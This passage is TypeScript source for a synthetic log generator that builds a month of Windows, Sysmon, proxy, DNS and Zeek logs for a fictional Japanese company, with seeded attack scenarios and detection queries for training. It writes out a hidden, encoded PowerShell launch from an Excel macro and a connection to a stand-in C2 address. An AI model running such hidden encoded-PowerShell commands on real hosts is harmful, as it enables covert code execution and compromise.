import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildCompany, DEPARTMENTS, type Employee, loadCategoryDomains, loadHolidays, usersCsv } from './company';
import { Rng } from './rng';
import { Sink } from './sinks';
import {
  bindStamp, ciscoStamp, clfStamp, DAY, doorStamp, epochSeconds, fortiDateTime, HOUR, isoJst, jst, jstDate, jstMidnight, MINUTE, pgStamp, syslogStamp,
} from './time';
import { dnsQuery, fileCreate, networkConnect, processCreate, processGuid, SYSMON_CHANNEL, SYSMON_PROVIDER, SYSMON_VERSION, type SysmonProcess } from './sysmon';
import { renderNxlog, renderWinlogbeat, renderXml, type WinRecord } from './windows';
import { TimesheetBook } from './timesheet';

export interface GenerateOptions {
  out: string;
  seed: number;
  days: number;
  users: number;
  /** First day, YYYY-MM-DD (JST). */
  start: string;
  benign: boolean;
  /** Moves every single-day scenario this many working days later within the second half (default 0). */
  scenarioShift?: number;
}

export interface Detection {
  description: string;
  /** A query on normalized fields: `field:value` terms joined by AND; `*` wildcards, `field:>=N`, `@timestamp:[a TO b]`. */
  query: string;
  minCount: number;
}

export interface Scenario {
  id: string;
  title: string;
  /** An account, a source IP or a device. */
  who: string;
  whoDisplayName?: string;
  whoDepartment?: string;
  what: string;
  start: string;
  end: string;
  monitoringPoint: string;
  useCase: string;
  detections: Detection[];
}

export interface GenerateResult {
  files: Array<{ name: string; lines: number; bytes: number }>;
  scenarios: Scenario[];
  users: number;
  days: number;
}

export const PROFILES: Record<string, { days: number; users: number }> = {
  default: { days: 30, users: 200 },
  small: { days: 7, users: 50 },
};

const DOMAIN = 'CORP';
const FQDN = 'corp.example.co.jp';
const DC = `DC01.${FQDN}`;
const ATTACK = { spray: '203.0.113.77', brute: '198.51.100.23', c2: '198.51.100.99', exfil: '203.0.113.150' };
const SHARE_FILES = ['企画書', '設計書', '議事録', '見積書', '報告書', '手順書', '月次集計', '顧客一覧', '仕様書', '予算案', '発注書', '契約書', '週報', '提案資料', '検収書'];
const EXTS = ['.xlsx', '.docx', '.pdf', '.pptx', '.csv'];
const BUSINESS = ['www.example.co.jp', 'portal.corp.example.co.jp', 'outlook.office365.com', 'teams.microsoft.com', 'www.google.co.jp', 'login.microsoftonline.com'];

const p2 = (n: number): string => String(n).padStart(2, '0');
const hex = (n: number): string => `0x${n.toString(16)}`;

/** Writes a month of raw logs for a demo company into `out`; returns what it wrote. */
export function generate(opts: GenerateOptions): GenerateResult {
  const g = new Generator(opts);
  return g.run();
}

class Generator {
  private readonly rng: Rng;
  private readonly people: Employee[];
  private readonly holidays = loadHolidays();
  private readonly categories = loadCategoryDomains();
  private readonly sinks: Record<string, Sink>;
  private readonly recordIds = new Map<string, number>();
  private readonly scenarios: Scenario[] = [];
  /** Sysmon draws from its own stream and numbers its own records, so adding it shifted no other log. */
  private readonly sysmonRng: Rng;
  private readonly book: TimesheetBook;
  private readonly sysmonRecordIds = new Map<string, number>();
  private readonly t0: number;
  private handle = 0x1000;
  private pid = 3000;
  private qid = 0x4f1a2b;
  private auditSerial = 4500;
  private cupsJob = 100;
  private fgtSession = 8000;
  private ciscoSeq = 20000;
  private zeekUid = 0;
  private pgPid = 12300;
  private pgStmt = 1;
  /** Scenario days on which a person's ordinary day is replaced by the scenario's own session. */
  private readonly replaced = new Set<string>();
  /** Scenario days on which a person must be at work. */
  private readonly present = new Set<string>();

  constructor(private readonly opts: GenerateOptions) {
    this.rng = new Rng(opts.seed);
    this.sysmonRng = new Rng((opts.seed ^ 0x5953_4d4e) >>> 0);
    this.book = new TimesheetBook(opts.seed);
    this.t0 = jstMidnight(opts.start);
    this.people = buildCompany(this.rng.fork('company'), opts.users, opts.start, opts.days);
    mkdirSync(opts.out, { recursive: true });
    this.planActors();
    const o = opts.out;
    this.sinks = {
      ws: new Sink('windows/workstations-nxlog.json', o),
      dc: new Sink('windows/dc01-security.xml', o),
      sysmon: new Sink('windows/sysmon-operational.xml', o),
      fs: new Sink('windows/fileservers-winlogbeat.json', o),
      secure: new Sink('linux/secure.log', o),
      audit: new Sink('linux/audit.log', o),
      squid: new Sink('proxy/access.log', o),
      fgt: new Sink('firewall/fortigate.log', o),
      conn: new Sink('zeek/conn.log', o),
      dns: new Sink('zeek/dns.log', o),
      bind: new Sink('dns/query.log', o),
      dhcp: new Sink('dhcp/dhcpd.log', o),
      mail: new Sink('mail/maillog', o),
      pg: new Sink('db/postgresql-hrdb.log', o),
      cups: new Sink('print/page_log', o),
      door: new Sink('door/door.csv', o, '日時,カードID,氏名,社員番号,ドア,方向,結果,理由\n'),
      sw: new Sink('network/switch.log', o),
      ap: new Sink('network/ap.log', o),
    };
  }

  run(): GenerateResult {
    const { days } = this.opts;
    for (let d = 0; d < days; d++) {
      const day = this.t0 + d * DAY;
      const rng = this.rng.fork(`day-${d}`);
      this.background(day, rng);
      for (const p of this.people) this.personDay(p, day, d, rng.fork(p.account));
      if (!this.opts.benign) this.scenarioDay(d, day, rng.fork('scenario'));
      for (const s of Object.values(this.sinks)) s.flush(day + DAY);
    }
    for (const s of Object.values(this.sinks)) s.close();
    this.scenarios.sort((x, y) => (x.start < y.start ? -1 : x.start > y.start ? 1 : x.id < y.id ? -1 : 1));
    writeFileSync(join(this.opts.out, 'users.csv'), usersCsv(this.people));
    writeFileSync(join(this.opts.out, 'assets.csv'), this.assetsCsv());
    writeFileSync(join(this.opts.out, 'timesheet.csv'), this.book.csv(this.people, this.t0, days, (day) => this.isOffDay(day), this.opts.benign));
    writeFileSync(join(this.opts.out, 'holidays.txt'), [...this.holidays].map(([k, v]) => `${k} ${v}`).join('\n') + '\n');
    const meta = {
      company: '株式会社サンプル製作所 (demo)',
      seed: this.opts.seed,
      start: this.opts.start,
      days,
      users: this.people.length,
      benign: this.opts.benign,
      timeZone: 'Asia/Tokyo',
      year: Number(this.opts.start.slice(0, 4)),
      scenarios: this.scenarios,
      // Seeded 乖離 between timesheet.csv and the logs (kansa timesheet import; the attendance divergence view).
      timesheetGaps: this.book.seeded,
    };
    writeFileSync(join(this.opts.out, 'scenarios.json'), `${JSON.stringify(meta, null, 2)}\n`);
    return {
      files: Object.values(this.sinks).map((s) => ({ name: s.name, lines: s.lines, bytes: s.bytes })),
      scenarios: this.scenarios,
      users: this.people.length,
      days,
    };
  }

  private assetsCsv(): string {
    const rows = ['host,owner,department,role'];
    // Windows machines by their DNS name, as AD's dNSHostName and the event logs' Computer field give it.
    for (const p of this.people) rows.push(`${p.host}.${FQDN},${p.account},${p.dept.ja},${p.laptop ? 'laptop' : 'workstation'}`);
    rows.push(`DC01.${FQDN},,情報システム,domain-controller`, `FS01.${FQDN},,情報システム,file-server`, `FS02.${FQDN},,情報システム,file-server`);
    rows.push('web01,,情報システム,linux-server', 'db01,,情報システム,database', 'bastion01,,情報システム,ssh-gateway', 'mail01,,情報システム,mail-server');
    rows.push('ns01,,情報システム,dns-server', 'dhcp01,,情報システム,dhcp-server', 'proxy01,,情報システム,proxy', 'FGT60F,,情報システム,firewall');
    rows.push('core-sw01,,情報システム,switch', 'floor3-sw01,,情報システム,switch', 'ap-3f-01,,情報システム,access-point', 'ap-3f-02,,情報システム,access-point');
    return `${rows.join('\n')}\n`;
  }

  // ---------------------------------------------------------------- calendar

  private isOffDay(day: number): boolean {
    const p = jst(day + HOUR);
    return p.dow === 0 || p.dow === 6 || this.holidays.has(jstDate(day + HOUR));
  }

  // ---------------------------------------------------------------- windows

  private win(sink: 'ws' | 'dc' | 'fs', r: Omit<WinRecord, 'recordId'>): void {
    const id = (this.recordIds.get(r.computer) ?? 100000) + 1;
    this.recordIds.set(r.computer, id);
    const rec: WinRecord = { ...r, recordId: id };
    const text = sink === 'ws' ? renderNxlog(rec) : sink === 'dc' ? renderXml(rec) : renderWinlogbeat(rec, r.computer.split('.')[0].toLowerCase());
    this.sinks[sink].add(r.t, text);
  }

  /** One Sysmon event, as Event XML (wevtutil / WEF of Microsoft-Windows-Sysmon/Operational). */
  private sysmonEvent(t: number, computer: string, id: number, data: Array<[string, string]>): void {
    const recordId = (this.sysmonRecordIds.get(computer) ?? 50000) + 1;
    this.sysmonRecordIds.set(computer, recordId);
    const rec: WinRecord = { t, id, provider: SYSMON_PROVIDER, channel: SYSMON_CHANNEL, computer, recordId, level: 4, task: id, version: SYSMON_VERSION[id], processId: 3180, threadId: 4016, data, message: '' };
    this.sinks.sysmon.add(t, renderXml(rec));
  }

  /** Sysmon runs on the IT department's PCs and on the accounting PCs (they handle invoices, phishing's favourite target). */
  private hasSysmon(p: Employee): boolean {
    return p.dept.code === 'joho' || p.dept.code === 'keiri';
  }

  /** A Sysmon host's ordinary day: Outlook with its DNS lookup and connection, then the department's own tool. */
  private sysmonDay(p: Employee, arrive: number, leave: number, logonId: string): void {
    const rng = this.sysmonRng.fork(`${p.account}@${arrive}`);
    const comp = `${p.host}.${FQDN}`;
    const user = `${DOMAIN}\\${p.account}`;
    const machine = rng.hex(8);
    const session = { logonGuid: `{${machine}-${rng.hex(4)}-${rng.hex(4)}-0000-0020${rng.hex(8)}}`, logonId, cwd: `C:\\Users\\${p.account}\\` };
    const explorer: SysmonProcess = { guid: processGuid(machine, rng), pid: rng.int(3000, 9000), image: 'C:\\Windows\\explorer.exe', commandLine: 'C:\\Windows\\Explorer.EXE', user };
    const start = (image: string, commandLine: string): SysmonProcess => ({ guid: processGuid(machine, rng), pid: rng.int(1000, 15000) & ~3, image, commandLine, user });
    const local = (port: number) => ({ ip: p.ip, host: comp, port });
    const t1 = Math.min(arrive + rng.int(40, 120) * 1000, leave - 60_000);
    const outlookImage = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
    const outlook = start(outlookImage, `"${outlookImage}" `);
    this.sysmonEvent(t1, comp, 1, processCreate(t1, outlook, explorer, session, rng));
    this.sysmonEvent(t1 + 2500, comp, 22, dnsQuery(t1 + 2500, outlook, 'outlook.office365.com', { cname: 'outlook.ms-acdc.office.com', ips: ['203.0.113.40', '203.0.113.41'] }));
    this.sysmonEvent(t1 + 2600, comp, 3, networkConnect(t1 + 2600, outlook, local(rng.int(49700, 60000)), { ip: '203.0.113.40', host: 'outlook.ms-acdc.office.com', port: 443, portName: 'https' }));
    const t2 = Math.max(t1 + 60_000, Math.min(arrive + rng.int(20, 240) * MINUTE, leave - 10 * MINUTE));
    if (p.dept.code === 'joho') {
      const mmc = start('C:\\Windows\\System32\\mmc.exe', '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"');
      this.sysmonEvent(t2, comp, 1, processCreate(t2, mmc, explorer, session, rng));
      this.sysmonEvent(t2 + 1200, comp, 3, networkConnect(t2 + 1200, mmc, local(rng.int(49700, 60000)), { ip: '10.0.0.11', host: DC, port: 389, portName: 'ldap' }));
    } else {
      const name = `${rng.pick(['月次集計', '見積書', '予算案', '発注書'])}_${rng.int(1, 40)}.xlsx`;
      const excelImage = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
      const excel = start(excelImage, `"${excelImage}" "\\\\FS02\\${p.dept.ja}\\${name}"`);
      this.sysmonEvent(t2, comp, 1, processCreate(t2, excel, explorer, session, rng));
      const saved = t2 + rng.int(5, 40) * MINUTE;
      this.sysmonEvent(saved, comp, 11, fileCreate(saved, excel, `C:\\Users\\${p.account}\\Documents\\${name}`));
    }
  }

  /** encoded-powershell as Sysmon records it: EXCEL.EXE → powershell.exe (the PIDs of the 4688), then its C2 connection. */
  private sysmonAttack(t: number, p: Employee, enc: string): void {
    const rng = this.sysmonRng.fork('encoded-powershell');
    const comp = `${p.host}.${FQDN}`;
    const user = `${DOMAIN}\\${p.account}`;
    const machine = rng.hex(8);
    const session = { logonGuid: `{${machine}-${rng.hex(4)}-${rng.hex(4)}-0000-0020${rng.hex(8)}}`, logonId: '0x2a81f3c', cwd: `C:\\Users\\${p.account}\\Documents\\` };
    const excelImage = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
    const excel: SysmonProcess = { guid: processGuid(machine, rng), pid: 0x1a2c, image: excelImage, commandLine: `"${excelImage}" "C:\\Users\\${p.account}\\Downloads\\請求書_2026.xlsm"`, user };
    const ps: SysmonProcess = { guid: processGuid(machine, rng), pid: 0x1f4c, image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: `powershell.exe -NoP -NonI -W Hidden -Enc ${enc}`, user };
    this.sysmonEvent(t, comp, 1, processCreate(t, ps, excel, session, rng));
    this.sysmonEvent(t + 1400, comp, 3, networkConnect(t + 1400, ps, { ip: p.ip, host: comp, port: rng.int(49700, 60000) }, { ip: ATTACK.c2, host: '-', port: 80, portName: 'http' }));
  }

  private sec(sink: 'ws' | 'dc' | 'fs', t: number, computer: string, id: number, data: Array<[string, string]>, message: string, extra: Partial<WinRecord> = {}): void {
    this.win(sink, { t, id, provider: 'Microsoft-Windows-Security-Auditing', channel: 'Security', computer, audit: 'success', data, message, ...extra });
  }

  private subject(p: Employee | { sid: string; account: string }, logonId: string): Array<[string, string]> {
    return [['SubjectUserSid', p.sid], ['SubjectUserName', p.account], ['SubjectDomainName', DOMAIN], ['SubjectLogonId', logonId]];
  }

  private machineSubject(host: string): Array<[string, string]> {
    return [['SubjectUserSid', 'S-1-5-18'], ['SubjectUserName', `${host}$`], ['SubjectDomainName', DOMAIN], ['SubjectLogonId', '0x3e7']];
  }

  private logon4624(sink: 'ws' | 'dc' | 'fs', t: number, host: string, p: Employee, type: number, ip: string, logonId: string, elevated = false): void {
    const [proc, pname, auth] = type === 3 ? ['0x0', '-', 'Kerberos'] : ['0x2f0', 'C:\\Windows\\System32\\svchost.exe', 'Negotiate'];
    this.sec(sink, t, `${host}.${FQDN}`, 4624, [
      ...this.machineSubject(host),
      ['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId],
      ['LogonType', String(type)], ['LogonProcessName', type === 3 ? 'Kerberos' : 'User32 '], ['AuthenticationPackageName', auth],
      ['WorkstationName', type === 3 ? '-' : host], ['LogonGuid', '{00000000-0000-0000-0000-000000000000}'], ['TransmittedServices', '-'],
      ['LmPackageName', '-'], ['KeyLength', '0'], ['ProcessId', proc], ['ProcessName', pname], ['IpAddress', ip], ['IpPort', type === 3 ? String(49152 + (t % 10000)) : '0'],
      ['ImpersonationLevel', '%%1833'], ['RestrictedAdminMode', '-'], ['TargetOutboundUserName', '-'], ['TargetOutboundDomainName', '-'],
      ['VirtualAccount', '%%1843'], ['TargetLinkedLogonId', '0x0'], ['ElevatedToken', elevated ? '%%1842' : '%%1843'],
    ], 'An account was successfully logged on.', { version: 2, task: 12544, taskName: 'Logon' });
  }

  private logon4625(t: number, user: string, ip: string, workstation: string): void {
    this.sec('dc', t, DC, 4625, [
      ['SubjectUserSid', 'S-1-0-0'], ['SubjectUserName', '-'], ['SubjectDomainName', '-'], ['SubjectLogonId', '0x0'],
      ['TargetUserSid', 'S-1-0-0'], ['TargetUserName', user], ['TargetDomainName', DOMAIN], ['Status', '0xc000006d'], ['FailureReason', '%%2313'],
      ['SubStatus', '0xc000006a'], ['LogonType', '3'], ['LogonProcessName', 'NtLmSsp '], ['AuthenticationPackageName', 'NTLM'], ['WorkstationName', workstation],
      ['TransmittedServices', '-'], ['LmPackageName', '-'], ['KeyLength', '0'], ['ProcessId', '0x0'], ['ProcessName', '-'], ['IpAddress', ip], ['IpPort', String(40000 + (t % 20000))],
    ], 'An account failed to log on.', { audit: 'failure', task: 12544, taskName: 'Logon' });
  }

  private sys(t: number, computer: string, provider: string, id: number, data: Array<[string, string]>, message: string, level = 4): void {
    this.win('ws', { t, id, provider, channel: 'System', computer, level, data, message, processId: 4, threadId: 8 });
  }

  /** One file access as the Security log writes it: 4656 handle, 4663 per access, 4658 close. */
  private fileAccess(t: number, server: string, p: Employee | { sid: string; account: string }, logonId: string, path: string, kind: 'read' | 'write' | 'delete-ish', proc = '0x4', procName = ''): number {
    const h = hex((this.handle += 4));
    const comp = `${server}.${FQDN}`;
    const base = this.subject(p, logonId);
    const [reqList, reqMask, accList, accMask] =
      kind === 'read' ? ['%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4419\n\t\t\t\t%%4423\n\t\t\t\t', '0x120089', '%%4416\n\t\t\t\t', '0x1'] :
        ['%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4419\n\t\t\t\t%%4420\n\t\t\t\t%%4423\n\t\t\t\t%%4424\n\t\t\t\t', '0x12019f', '%%4417\n\t\t\t\t', '0x2'];
    this.sec('fs', t, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h],
      ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', reqList], ['AccessReason', '-'], ['AccessMask', reqMask], ['PrivilegeList', '-'],
      ['RestrictedSidCount', '0'], ['ProcessId', proc], ['ProcessName', procName], ['ResourceAttributes', 'S:AI']], 'A handle to an object was requested.', { version: 1, task: 12800, taskName: 'File System' });
    this.sec('fs', t + 3, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h],
      ['AccessList', accList], ['AccessMask', accMask], ['ProcessId', proc], ['ProcessName', procName], ['ResourceAttributes', 'S:AI']], 'An attempt was made to access an object.', { version: 1, task: 12800, taskName: 'File System' });
    this.sec('fs', t + 9, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h], ['ProcessId', proc], ['ProcessName', procName]], 'The handle to an object was closed.', { task: 12800, taskName: 'File System' });
    return t + 10;
  }

  private sharePath(dept: string, rng: Rng): string {
    const year = rng.chance(0.5) ? '2026年度\\' : '';
    return `C:\\Shares\\${dept}\\${year}${rng.pick(SHARE_FILES)}_${rng.int(1, 40)}${rng.pick(EXTS)}`;
  }

  // ---------------------------------------------------------------- one person's day

  private personDay(p: Employee, day: number, d: number, rng: Rng): void {
    const off = this.isOffDay(day);
    const sick = rng.chance(0.03);
    const key = `${p.account}@${d}`;
    if (!this.opts.benign && this.replaced.has(key)) return;
    if (sick && (this.opts.benign || !this.present.has(key))) return;
    // Days off: only the night shift (its own calendar) works some weekends; nobody else, so holiday alerts stay quiet.
    if (off && !(p.night && rng.chance(0.3))) return;
    const leaverBusy = false;
    let arrive = day + (p.arrive + Math.round(rng.normal() * 12)) * MINUTE + rng.int(0, 59_999);
    let length = p.workMinutes + Math.round(rng.normal() * 15);
    if (off) {
      arrive = day + (10 * 60 + rng.int(0, 120)) * MINUTE;
      length = rng.int(120, 300);
    } else if (rng.chance(p.overtime)) length += rng.int(30, 180);
    // Day workers go home by 21:30 at the latest: late-night use is left to the scenarios.
    const leave = p.night ? arrive + length * MINUTE + rng.int(0, 59_999) : Math.min(arrive + length * MINUTE + rng.int(0, 59_999), day + (21 * 60 + 30) * MINUTE - rng.int(0, 600_000));
    this.workSession(p, arrive, leave, rng, d, leaverBusy);
  }

  /** A working session on the user's own PC, with everything that it leaves in the logs. */
  private workSession(p: Employee, arrive: number, leave: number, rng: Rng, d: number, _busy: boolean, opts: { lunch?: boolean; door?: boolean } = {}): void {
    this.book.session(p, arrive, leave);
    const comp = `${p.host}.${FQDN}`;
    const logonId = hex(0x100000 + rng.int(0, 0xefffff));
    // Door entry a few minutes before.
    if (opts.door !== false) {
      this.door(arrive - rng.int(3, 9) * MINUTE, p, '本社1F 通用口', '入室');
      this.door(arrive - rng.int(1, 3) * MINUTE, p, `本社${p.dept.code === 'seizo' ? '工場棟' : '3F'} 執務室`, '入室');
    }
    // Power on (or resume), DHCP, logon.
    const boot = arrive - rng.int(60, 240) * 1000;
    if (p.laptop && rng.chance(0.5)) {
      this.sys(boot, comp, 'Microsoft-Windows-Kernel-Power', 107, [], 'The system has resumed from sleep.');
    } else {
      this.sys(boot, comp, 'Microsoft-Windows-Kernel-General', 12, [['MajorVersion', '10'], ['MinorVersion', '0'], ['BuildVersion', '19045'], ['StartTime', new Date(boot - 5000).toISOString()]], 'The operating system started at system time.');
      this.sys(boot + 9000, comp, 'EventLog', 6005, [], 'The Event log service was started.');
    }
    this.dhcp(boot + 15_000, p);
    const logonType = p.laptop && rng.chance(0.15) ? 11 : 2;
    this.logon4624('ws', arrive, p.host, p, logonType, logonType === 11 ? '-' : '127.0.0.1', logonId);
    this.logon4624('dc', arrive + 800, 'DC01', p, 3, p.ip, hex(0x900000 + rng.int(0, 0xffff)));
    if (this.hasSysmon(p)) this.sysmonDay(p, arrive, leave, logonId);
    this.sec('dc', arrive + 600, DC, 4776, [['PackageName', 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0'], ['TargetUserName', p.account], ['Workstation', p.host], ['Status', '0x0']], 'The computer attempted to validate the credentials for an account.', { task: 14336, taskName: 'Credential Validation' });
    // Lunch lock / unlock.
    const day = arrive - (arrive - this.t0) % DAY;
    const lunchStart = day + (12 * 60 + rng.int(-5, 20)) * MINUTE + rng.int(0, 59_999);
    const hasLunch = opts.lunch !== false && lunchStart > arrive + HOUR && lunchStart + HOUR < leave;
    const lunchEnd = lunchStart + rng.int(40, 58) * MINUTE;
    if (hasLunch) {
      this.sec('ws', lunchStart, comp, 4800, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId], ['SessionId', '1']], 'The workstation was locked.', { task: 12551, taskName: 'Other Logon/Logoff Events' });
      this.sec('ws', lunchEnd, comp, 4801, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId], ['SessionId', '1']], 'The workstation was unlocked.', { task: 12551, taskName: 'Other Logon/Logoff Events' });
      if (rng.chance(0.5)) {
        this.door(lunchStart + 2 * MINUTE, p, '本社1F 通用口', '退室');
        this.door(lunchEnd - 3 * MINUTE, p, '本社1F 通用口', '入室');
      }
    }
    const busy = (t: number): boolean => !hasLunch || t < lunchStart || t > lunchEnd;
    // Screensaver now and then.
    if (rng.chance(0.3)) {
      const t = arrive + rng.int(60, 200) * MINUTE;
      if (t < leave - 30 * MINUTE && busy(t) && busy(t + 10 * MINUTE)) {
        this.sec('ws', t, comp, 4802, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId], ['SessionId', '1']], 'The screen saver was invoked.', { task: 12551, taskName: 'Other Logon/Logoff Events' });
        this.sec('ws', t + rng.int(3, 9) * MINUTE, comp, 4803, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId], ['SessionId', '1']], 'The screen saver was dismissed.', { task: 12551, taskName: 'Other Logon/Logoff Events' });
      }
    }
    const span = leave - arrive;
    const at = (): number => {
      for (let i = 0; i < 5; i++) {
        const t = arrive + 60_000 + Math.floor(rng.next() * (span - 120_000));
        if (busy(t)) return t;
      }
      return arrive + 60_000;
    };
    // File server: own department's share.
    const server = p.dept.server;
    const fsLogon = hex(0xa00000 + rng.int(0, 0xfffff));
    const nFiles = rng.int(3, 14);
    if (nFiles > 0) {
      const t = arrive + rng.int(2, 20) * MINUTE;
      this.sec('fs', t, `${server}.${FQDN}`, 5140, [...this.subject(p, fsLogon), ['ObjectType', 'File'], ['IpAddress', p.ip], ['IpPort', String(49700 + rng.int(0, 200))], ['ShareName', `\\\\*\\${p.dept.ja}`], ['ShareLocalPath', `\\??\\C:\\Shares\\${p.dept.ja}`], ['AccessMask', '0x1'], ['AccessList', '%%4416\n\t\t\t\t']], 'A network share object was accessed.', { version: 1, task: 12808, taskName: 'File Share' });
    }
    this.zeekConn(arrive + 2 * MINUTE, p.ip, server === 'FS01' ? '10.0.0.20' : '10.0.0.21', 445, 'smb,gssapi', (leave - arrive) / 1000 - 200, rng.int(200_000, 5_000_000), rng.int(1_000_000, 80_000_000), rng);
    for (let i = 0; i < nFiles; i++) {
      const t = at();
      // Mostly the own department's share; now and then the company-wide folder on FS02.
      const common = rng.chance(0.08);
      const path = common ? `C:\\Shares\\全社共有\\${rng.pick(['就業規則', '社内報', '経費精算マニュアル', '年間カレンダー', '組織図'])}_2026.pdf` : this.sharePath(p.dept.ja, rng);
      const reads = rng.int(1, 3);
      let u = t;
      for (let k = 0; k < reads; k++) u = this.fileAccess(u + rng.int(200, 1500), common ? 'FS02' : server, p, fsLogon, path, 'read');
      if (common) continue;
      if (rng.chance(0.3)) this.fileAccess(u + rng.int(30, 600) * 1000, server, p, fsLogon, path, 'write');
    }
    // Web, DNS, firewall, Zeek.
    const nWeb = rng.int(25, 70);
    for (let i = 0; i < nWeb; i++) this.browse(p, at(), rng, this.pickCategory(p, rng, d));
    // Mail.
    const nMail = Math.max(0, p.mailPerDay + Math.round(rng.normal() * 2));
    for (let i = 0; i < nMail; i++) this.mailOut(p, at(), rng);
    for (let i = 0; i < Math.round(nMail * 1.5); i++) this.mailIn(p, at(), rng);
    // Printing, now and then.
    if (rng.chance(0.25)) this.print(p, at(), rng, rng.int(1, 12), rng.pick(SHARE_FILES) + rng.pick(['.pdf', '.xlsx', '.docx']));
    // Linux work for the administrators.
    if (p.privileged) this.adminLinux(p, at(), rng);
    // Leave: logoff, shutdown or sleep, door exit.
    this.sec('ws', leave, comp, 4647, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId]], 'User initiated logoff:', { task: 12545, taskName: 'Logoff' });
    this.sec('ws', leave + 1200, comp, 4634, [['TargetUserSid', p.sid], ['TargetUserName', p.account], ['TargetDomainName', DOMAIN], ['TargetLogonId', logonId], ['LogonType', String(logonType)]], 'An account was logged off.', { task: 12545, taskName: 'Logoff' });
    if (p.laptop && rng.chance(0.5)) {
      this.sys(leave + 5000, comp, 'Microsoft-Windows-Kernel-Power', 42, [['TargetState', '4'], ['EffectiveState', '4'], ['Reason', '7'], ['Flags', '0']], 'The system is entering sleep.');
    } else {
      this.sys(leave + 3000, comp, 'User32', 1074, [['param1', 'C:\\Windows\\Explorer.EXE (' + p.host + ')'], ['param2', p.host], ['param3', 'Other (Unplanned)'], ['param4', '0x0'], ['param5', 'power off'], ['param6', ''], ['param7', `${DOMAIN}\\${p.account}`]], `The process C:\\Windows\\Explorer.EXE (${p.host}) has initiated the power off of computer ${p.host} on behalf of user ${DOMAIN}\\${p.account} for the following reason: Other (Unplanned)`);
      this.sys(leave + 9000, comp, 'EventLog', 6006, [], 'The Event log service was stopped.');
      this.sys(leave + 11000, comp, 'Microsoft-Windows-Kernel-General', 13, [['StopTime', new Date(leave + 11000).toISOString()]], 'The operating system is shutting down at system time.');
    }
    if (opts.door !== false) this.door(leave + rng.int(2, 6) * MINUTE, p, '本社1F 通用口', '退室');
  }

  private pickCategory(p: Employee, rng: Rng, _d: number): string {
    const r = rng.next();
    if (r < 0.55) return 'business';
    if (r < 0.7) return 'search';
    if (r < 0.8) return 'news';
    if (r < 0.86) return 'video';
    if (r < 0.92) return 'sns';
    if (r < 0.96) return 'webmail';
    if (r < 0.995) return 'cloud-storage';
    // Job sites: a quiet baseline, but never from the scenario leaver.
    return p === this.leaver() ? 'business' : 'job-site';
  }

  private domainOf(category: string, rng: Rng): string {
    const list = category === 'business' ? [...BUSINESS, ...(this.categories.get('business') ?? [])] : (this.categories.get(category) ?? BUSINESS);
    const d = rng.pick(list.length > 0 ? list : BUSINESS);
    return rng.chance(0.5) && !d.startsWith('www.') && d.split('.').length === 2 ? `www.${d}` : d;
  }

  private browse(p: Employee, t: number, rng: Rng, category: string, bytesOut?: number, bytesIn?: number): void {
    const host = this.domainOf(category, rng);
    const ip = `203.0.113.${10 + (host.length * 7) % 120}`;
    const https = rng.chance(0.8);
    const dur = rng.int(20, 3000);
    const down = bytesIn ?? (category === 'video' ? rng.int(2_000_000, 80_000_000) : rng.int(800, 400_000));
    const up = bytesOut ?? rng.int(300, 4000);
    const size = down + up;
    if (https) {
      this.sinks.squid.add(t, `${epochSeconds(t)} ${String(dur).padStart(6)} ${p.ip} TCP_TUNNEL/200 ${size} CONNECT ${host}:443 ${p.account} HIER_DIRECT/${ip} -`);
    } else {
      this.sinks.squid.add(t, `${epochSeconds(t)} ${String(dur).padStart(6)} ${p.ip} TCP_MISS/200 ${size} GET http://${host}/ ${p.account} HIER_DIRECT/${ip} text/html`);
    }
    if (rng.chance(0.3)) this.dnsQuery(t - 40, p.ip, host, rng);
    this.zeekConn(t, p.ip, '10.0.0.3', 3128, 'http', dur / 1000, up + 200, down + 300, rng);
    // The proxy's own connection through the firewall.
    if (rng.chance(0.2)) this.fgtTraffic(t + dur, '10.0.0.3', ip, 443, 'HTTPS', up, down, 'accept', undefined, host, rng);
  }

  private dnsQuery(t: number, ip: string, name: string, rng: Rng): void {
    const port = rng.int(49152, 65000);
    this.sinks.bind.add(t, `${bindStamp(t)} client @0x7f8a2c${rng.hex(6)} ${ip}#${port} (${name}): query: ${name} IN A +E(0)K (10.0.0.53)`);
    const uid = this.nextZeekUid();
    this.sinks.dns.add(t, JSON.stringify({ ts: Number(epochSeconds(t, 6)), uid, 'id.orig_h': ip, 'id.orig_p': port, 'id.resp_h': '10.0.0.53', 'id.resp_p': 53, proto: 'udp', trans_id: rng.int(1, 65535), rtt: 0.0012, query: name, qclass: 1, qclass_name: 'C_INTERNET', qtype: 1, qtype_name: 'A', rcode: 0, rcode_name: 'NOERROR', AA: false, TC: false, RD: true, RA: true, Z: 0, answers: ['203.0.113.10'], TTLs: [300.0], rejected: false }));
  }

  private nextZeekUid(): string {
    const n = ++this.zeekUid;
